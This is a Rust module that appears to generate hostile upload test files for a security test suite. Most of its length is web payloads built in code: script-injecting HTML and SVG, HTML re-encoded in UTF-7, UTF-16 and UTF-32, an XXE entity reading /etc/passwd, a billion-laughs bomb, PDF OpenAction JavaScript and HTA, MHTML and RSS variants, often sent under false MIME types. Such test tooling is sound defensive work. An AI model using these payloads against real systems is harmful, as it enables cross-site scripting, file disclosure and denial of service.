//! Pages, drawings and documents that would run if a browser took them for what they are.

use super::{
    Hostile,
    Sent::{Audio, File, Image, Video},
};

/// Each document in every guise: as it is, and as what it is not.
pub fn all(script: &str, canary: &str) -> Vec<Hostile> {
    let mut files = vec![];
    for (name, declared, bytes) in documents(script, canary) {
        files.push(Hostile::new(name, File, declared, bytes.clone()));
        files.push(Hostile::new(
            name,
            Image,
            hidden(declared, "image/png"),
            bytes.clone(),
        ));
        files.push(Hostile::new(name, Image, "image/jpeg", bytes.clone()));
        files.push(match files.len() % 2 {
            0 => Hostile::new(name, Video, "video/mp4", bytes),
            _ => Hostile::new(name, Audio, hidden(declared, "audio/x-m4a"), bytes),
        });
    }
    files
}

/// The type that media of this kind are declared as: a text that says that it is one is not kept as a photo or a sound.
pub(super) fn hidden(declared: &'static str, media: &'static str) -> &'static str {
    let is_text =
        declared.starts_with("text/") || declared.contains("xml") && !declared.contains("svg");
    if is_text { media } else { declared }
}

type Document = (&'static str, &'static str, Vec<u8>);

fn documents(script: &str, canary: &str) -> Vec<Document> {
    let html = format!(
        "<!doctype html><html class=hacked><base href='{canary}'><meta http-equiv=refresh content='0;url={canary}'>\
         <link rel=stylesheet href='{canary}'><script src='{canary}'></script><script>{script}</script>\
         <img src='{canary}' onerror=\"{script}\"><iframe src='{canary}'></iframe><form action='{canary}'></form>"
    );
    let svg = format!(
        "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' onload=\"{script}\">\
         <script>{script}</script><image xlink:href='{canary}'/><use href='{canary}#a'/>\
         <foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' src='{canary}'/></foreignObject></svg>"
    );
    let utf16 = |mark: &[u8], order: fn(u16) -> [u8; 2]| {
        let units = html.encode_utf16().flat_map(order);
        mark.iter().copied().chain(units).collect::<Vec<u8>>()
    };
    let utf32 = html.chars().flat_map(|c| u32::from(c).to_le_bytes());
    let utf7 = html.replace('<', "+ADw-").replace('>', "+AD4-");
    let pdf = format!(
        "%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);this.getURL\\('{canary}'\\))>>\
         /AA<</WC<</S/URI/URI({canary})>>>>>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n\
         3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF"
    );
    let lt = |text: &str| text.as_bytes().to_vec();
    vec![
        ("page.html", "text/html", lt(&html)),
        ("page.html;.jpg", "text/html; charset=utf-8", lt(&html)),
        (
            "late.html",
            "image/png",
            lt(&format!("{}{html}", " ".repeat(600))),
        ),
        (
            "comment.html",
            "text/plain",
            lt(&format!("<!-- x -->{html}")),
        ),
        (
            "le.html",
            "text/html; charset=utf-16",
            utf16(b"\xff\xfe", u16::to_le_bytes),
        ),
        ("be.html", "text/html", utf16(b"\xfe\xff", u16::to_be_bytes)),
        (
            "no-mark.html",
            "text/html; charset=utf-16le",
            utf16(b"", u16::to_le_bytes),
        ),
        (
            "32.html",
            "text/html; charset=utf-32",
            [0xff, 0xfe, 0, 0].into_iter().chain(utf32).collect(),
        ),
        (
            "7.html",
            "text/html; charset=utf-7",
            lt(&format!("+/v8-{utf7}")),
        ),
        (
            "x.xhtml",
            "application/xhtml+xml",
            lt(&format!(
                "<html xmlns='http://www.w3.org/1999/xhtml'><script>{script}</script></html>"
            )),
        ),
        ("x.svg", "image/svg+xml", lt(&svg)),
        (
            "declared.svg",
            "image/svg+xml",
            lt(&format!(
                "<?xml version='1.0'?><!DOCTYPE svg SYSTEM '{canary}'>{svg}"
            )),
        ),
        (
            "doctype.xml",
            "text/xml",
            lt(&format!(
                "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'><!ENTITY % c SYSTEM '{canary}'>%c;]><a>&b;</a>"
            )),
        ),
        ("laughs.xml", "application/xml", lt(&laughs())),
        (
            "style.xml",
            "text/xml",
            lt(&format!(
                "<?xml-stylesheet type='text/xsl' href='{canary}'?><a><script xmlns='http://www.w3.org/1999/xhtml'>{script}</script></a>"
            )),
        ),
        (
            "feed.rss",
            "application/rss+xml",
            lt(&format!(
                "<rss><channel><link>javascript:{script}</link></channel></rss>"
            )),
        ),
        (
            "page.mhtml",
            "multipart/related",
            lt(&format!(
                "MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n{html}\r\n--b--"
            )),
        ),
        ("page.hta", "application/hta", lt(&html)),
        (
            "page.url",
            "application/internet-shortcut",
            lt(&format!(
                "[InternetShortcut]\r\nURL={canary}\r\nIconFile={canary}"
            )),
        ),
        ("x.js", "text/javascript", lt(script)),
        (
            "x.css",
            "text/css",
            lt(&format!("@import '{canary}';*{{background:url({canary})}}")),
        ),
        (
            "manifest.appcache",
            "text/cache-manifest",
            lt(&format!("CACHE MANIFEST\n{canary}")),
        ),
        ("x.pdf", "application/pdf", lt(&pdf)),
        ("both.pdf", "text/html", lt(&format!("{html}\n{pdf}"))),
        (
            "x.swf",
            "application/x-shockwave-flash",
            lt(&format!("FWS\x09\u{1}{canary}")),
        ),
    ]
}

/// An entity that holds ten times ten times ten …
fn laughs() -> String {
    let mut text = "<!DOCTYPE a [<!ENTITY e0 'ha'>".to_owned();
    for n in 1..12 {
        let ten = format!("&e{};", n - 1).repeat(10);
        text.push_str(&format!("<!ENTITY e{n} '{ten}'>"));
    }
    text + "]><a>&e11;</a>"
}
